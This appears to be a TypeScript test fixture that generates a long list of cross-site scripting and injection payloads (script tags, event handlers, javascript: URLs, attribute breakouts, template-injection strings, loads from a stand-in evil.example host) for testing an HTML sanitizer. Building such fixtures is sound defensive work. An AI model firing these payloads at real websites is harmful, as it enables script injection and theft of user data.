/** What attackers write where a document lets them write. Families × carriers, so that the list is long without being typed. For tests only. */

const SCHEMES = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=',
  'file:///etc/passwd', 'blob:https://x/1', 'view-source:x', 'mailto:a@b?subject=x', 'tel:1', 'ftp://x/', 'ws://x', 'jar:x', 'filesystem:x', 'about:blank',
  '//evil.example/x', '/api/delete', '../x', 'x.html', '?a=b', 'https://user:pass@evil.example/', 'http://[', 'https:', '\\\\evil.example\\x',
]

const HANDLERS = ['onerror', 'onload', 'onclick',
  'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbegin', 'oncontentvisibilityautostatechange', 'onwheel', 'onscrollend', 'onbeforematch']

const CARRIERS = ['img', 'svg', 'body', 'iframe', 'video', 'details', 'input', 'math', 'marquee', 'a']

const TAGS = [
  '<script>alert(1)</script>', '<ScRiPt src=//evil.example>', '<style>*{background:url(//evil.example)}</style>', '<iframe src=javascript:alert(1)>',
  '<object data=x>', '<embed src=x>', '<base href=//evil.example>', '<link rel=stylesheet href=//evil.example>', '<meta http-equiv=refresh content=0;url=//evil>',
  '<form action=//evil.example><input name=p>', '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mtext></table><mglyph><style><!--</style><img src onerror=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>', '<textarea></textarea><script>alert(1)</script>', '<title></title><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp>', '<plaintext>', '<!--><script>alert(1)</script>-->', '<![CDATA[><script>alert(1)</script>]]>', '<?xml-stylesheet href="x"?>',
  '</article></div><script>alert(1)</script>', '<portal src=x>', '<dialog open>', '<select><option>', '<button formaction=javascript:alert(1)>',
]

const BREAKERS = ['"', "'", '`', '>', '"/>', "'/>", '" ', "' ", '\u0000', '\u2028', '&quot;', '&#34;', '&#x22;', '&lt;', '&#60;', '&#x3c;', '&amp;lt;', '--!>', ']]>', '</', '\ufeff', '\u202e', '\ud800']

const attributes = HANDLERS.flatMap((handler) => CARRIERS.map((carrier) => `<${carrier} ${handler}=alert(1)>`))

const breakouts = BREAKERS.flatMap((breaker) => [`${breaker}><img src=x onerror=alert(1)>`, `${breaker} onmouseover=alert(1) x=${breaker}`, `${breaker} style=x:expression(1) ${breaker}`])

const expressions = ['{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<%= 7*7 %>', '#{7*7}', 'expression(alert(1))', 'url(javascript:alert(1))', '-moz-binding:url(x)', 'cda-x" id="clobber', 'constructor', '__proto__', 'toString', 'location', 'cookie']

export const PAYLOADS: readonly string[] = [...new Set([...SCHEMES, ...TAGS, ...attributes, ...breakouts, ...expressions, ...SCHEMES.map((scheme) => `"><a href="${scheme}">x</a>`), ...TAGS.map((tag) => `"'>${tag}`)])]
